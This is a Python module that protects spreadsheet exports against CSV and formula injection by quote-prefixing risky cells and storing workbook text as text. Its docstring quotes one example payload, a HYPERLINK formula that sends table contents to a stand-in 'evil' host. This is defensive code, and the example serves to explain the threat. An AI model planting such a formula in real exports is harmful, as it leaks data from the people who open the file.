"""Spreadsheet exports made safe to open: no cell of a CSV file or a workbook is run as a formula.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and Excel also one that starts with a
tab, a carriage return or a line feed, or with the full-width forms of those signs) as a formula: a
participant named ``=HYPERLINK("http://evil/?"&A1,"click")`` would send the table to a stranger, or run a
command through DDE, on the judge's computer. OWASP's "CSV Injection" advice is followed: every text cell that
starts with one of those characters gets a ``'`` in front, and every field is quoted. Numbers (points and
penalties may be negative) stay numbers. A workbook stores every text cell as text (never a formula), marked
with Excel's quote prefix where it starts like a formula, so the name is shown exactly as it was typed."""

from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence
from typing import IO, Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
"""What a spreadsheet reads as the start of a formula (the last four: full-width = + - @)."""


def looks_like_formula(value: str) -> bool:
    return value.startswith(FORMULA_STARTS)


def safe_cell(value: Any) -> Any:
    """``value`` for a CSV cell: a text that a spreadsheet would run as a formula gets a ``'`` in front;
    anything else (numbers included) is left as it is."""
    if isinstance(value, str) and looks_like_formula(value):
        return "'" + value
    return value


class SafeCsvWriter:
    """``csv.writer`` with every field quoted and every row's cells passed through ``safe_cell``."""

    def __init__(self, out: IO[str], *, delimiter: str = ",", lineterminator: str = "\r\n") -> None:
        self._w = csv.writer(out, delimiter=delimiter, lineterminator=lineterminator, quoting=csv.QUOTE_ALL)

    def writerow(self, row: Iterable[Any]) -> None:
        self._w.writerow([safe_cell(v) for v in row])


def append_safe_row(ws: Any, row: Sequence[Any]) -> None:
    """Append ``row`` to the openpyxl worksheet ``ws`` with every text cell stored as text: openpyxl makes a
    string that starts with ``=`` a formula; here its type is set back to a string, and a text that starts like
    a formula is marked with the quote prefix (Excel keeps it text when the cell is edited)."""
    ws.append(list(row))
    for cell in ws[ws.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"
            if looks_like_formula(cell.value):
                cell.quotePrefix = True
